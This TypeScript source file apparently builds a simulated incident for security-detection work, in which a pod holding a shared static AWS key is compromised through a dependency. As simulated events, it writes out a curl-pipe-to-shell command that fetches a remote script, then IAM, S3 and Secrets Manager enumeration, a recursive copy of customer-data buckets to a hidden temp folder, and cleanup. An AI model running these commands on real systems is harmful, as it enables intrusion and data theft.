import type { Human, Node, Pod, Proc } from '../model.js';
import { type Ns, minutes, ms, sec } from '../ns-time.js';
import type { Play, World } from '../world.js';
import type { Base } from '../base-cluster.js';
import { OWN_ECR } from '../base-cluster.js';
import { aws, container, profile } from '../profiles.js';
import { connect, exit, spawn } from '../runtime/actions.js';
import { awsCli, command, externalCalls, registerIncident } from './kit.js';

/**
 * static-keys-nat: one IAM user's long-term key (AKIA) sits in a Secret mounted by two workloads
 * in different namespaces, on nodes in two AZs that leave through the same NAT. Both use it all
 * day (often on kept-alive connections, so with no runtime trace). A developer also uses the key
 * from the office. One of the two pods is compromised through a dependency and enumerates IAM,
 * S3 and Secrets Manager with the key.
 */

export interface StaticKeysOptions {
  t0: Ns;
  /** Two nodes behind the same NAT: [legacy-sync's, partner-export's (the victim's)]. */
  nodes: [Node, Node];
  developer: Human;
  play?: string;
}

export function staticKeysNat(base: Base, o: StaticKeysOptions): Play {
  const b = base.b;
  const play = o.play ?? 'static-keys-nat';
  const from = base.span.from;
  const user = b.addIamUser('ci-deployer');
  const key = { user, keyId: b.akia() };
  const sync = b.addWorkload({
    name: 'legacy-sync',
    namespace: 'tools',
    sa: b.addServiceAccount('tools', 'legacy-sync', { kind: 'none' }, b.longAgo(from)),
    sdk: 'boto3',
    staticKey: key,
    containers: [container('legacy-sync', `${OWN_ECR}/tools/legacy-sync`, '0.14.2', '/usr/local/bin/python3', '/app/sync.py --loop', { cwd: '/app', uid: 1000 })],
    profile: profile({
      connectsPerMin: 0.5,
      peers: [{ workload: 'postgres', port: 5432 }],
      aws: [
        aws('s3.GetObject', 0.25, { bucket: 'acme-partner-drop', key: 'inbound/{date}/{uuid}.csv' }, 0.4),
        aws('ecr.DescribeImages', 0.05, { repository: 'tools/legacy-sync' }, 0.4),
        aws('ssm.GetParameters', 0.06, { names: '/tools/sync/targets' }, 0.4),
      ],
    }),
  });
  const exporter = b.addWorkload({
    name: 'partner-export',
    namespace: 'integrations',
    sa: b.addServiceAccount('integrations', 'partner-export', { kind: 'none' }, b.longAgo(from)),
    sdk: 'go-v1',
    staticKey: key,
    containers: [container('partner-export', `${OWN_ECR}/integrations/partner-export`, '3.0.7', '/app/partner-export', 'run --schedule */5', { cwd: '/app', uid: 65532 })],
    profile: profile({
      connectsPerMin: 0.4,
      peers: [{ workload: 'postgres', port: 5432 }],
      aws: [
        aws('s3.PutObject', 0.18, { bucket: 'acme-partner-drop', key: 'outbound/{date}/{uuid}.csv.gz' }, 0.3),
        aws('ssm.GetParameters', 0.05, { names: '/integrations/partner/endpoint' }, 0.3),
      ],
    }),
  });
  const syncPod = b.addPod(sync, { node: o.nodes[0], createdNs: b.longAgo(from) });
  const victim = b.addPod(exporter, { node: o.nodes[1], createdNs: b.longAgo(from) });
  const t0 = o.t0;
  const akia = { kind: 'iam-user' as const, keyId: key.keyId, role: null, session: null, creationNs: null, user, node: null };

  return {
    name: play,
    schedule(w: World): void {
      registerIncident(w, play, victim, {
        human: null,
        path: 'static-key',
        from: t0,
        to: t0 + minutes(5),
        summary: `${victim.name} ran a payload from a compromised dependency and used the ${user.name} key (shared with ${syncPod.name}, same NAT ${o.nodes[1].subnet.nat.publicIp}) to enumerate IAM, S3 and Secrets Manager`,
        attackerIps: [],
      });
      // The developer uses the same key from the office, a few times a day.
      for (let k = 0; k < 5; k++) {
        const at = from + minutes(20 + k * 41) + sec(k * 7);
        w.sched.at(at, () => externalCalls(w, at, o.developer.ip, akia, o.developer.awsAgent, [{ api: 'ecr.DescribeImages', params: { repository: 'tools/legacy-sync' } }], null, 'static-key', 'human-outside-cluster'));
      }
      let sh: Proc | null = null;
      const c = victim.containers[0] as Pod['containers'][number];
      w.sched.at(t0, () => {
        const main = victim.state.main;
        if (!main) return;
        sh = spawn(w, victim.node, { pod: victim, container: c, binary: '/bin/sh', args: '-c "curl -fsSL https://cdn.jsdelivr.net/gh/x0-lab/u@1.2/i.sh | sh"', cwd: '/app', uid: 65532, startNs: t0, parent: main });
        const dl = spawn(w, victim.node, { pod: victim, container: c, binary: '/usr/bin/curl', args: '-fsSL https://cdn.jsdelivr.net/gh/x0-lab/u@1.2/i.sh', cwd: '/app', uid: 65532, startNs: t0 + ms(4), parent: sh });
        connect(w, dl, t0 + ms(30), '151.101.1.229', 443, 'plain');
        exit(w, dl, t0 + ms(410));
      });
      const runs: Array<[number, string, string, Parameters<typeof awsCli>[1]['calls']]> = [
        [8, `iam list-attached-user-policies --user-name ${user.name}`, 'iam.list-attached-user-policies', [{ api: 'iam.ListAttachedUserPolicies', params: { userName: user.name } }]],
        [19, 'ec2 describe-instances', 'ec2.describe-instances', [{ api: 'ec2.DescribeInstances' }]],
        [33, 's3 ls', 's3.ls', [{ api: 's3.ListBuckets' }]],
        [
          47,
          's3 cp --recursive s3://acme-customer-data/exports/2026-10/ /tmp/.x/',
          's3.cp',
          [
            { api: 's3.GetObject', params: { bucket: 'acme-customer-data', key: 'exports/2026-10/customers-eu.csv.gz' } },
            { api: 's3.GetObject', params: { bucket: 'acme-customer-data', key: 'exports/2026-10/customers-us.csv.gz' } },
          ],
        ],
        [88, 'secretsmanager list-secrets', 'secretsmanager.list-secrets', [{ api: 'sm.ListSecrets' }]],
      ];
      for (const [s, args, ua, calls] of runs) {
        w.sched.at(t0 + sec(s), () => {
          if (sh) awsCli(w, { pod: victim, parent: sh, at: t0 + sec(s), args, uaCommand: ua, creds: akia, calls, play, path: 'static-key' });
        });
      }
      w.sched.at(t0 + sec(120), () => {
        if (sh) command(w, victim, sh, t0 + sec(120), '/bin/rm', '-rf /tmp/.x', 5);
      });
      w.sched.at(t0 + sec(122), () => {
        if (sh) exit(w, sh, t0 + sec(122));
      });
    },
  };
}
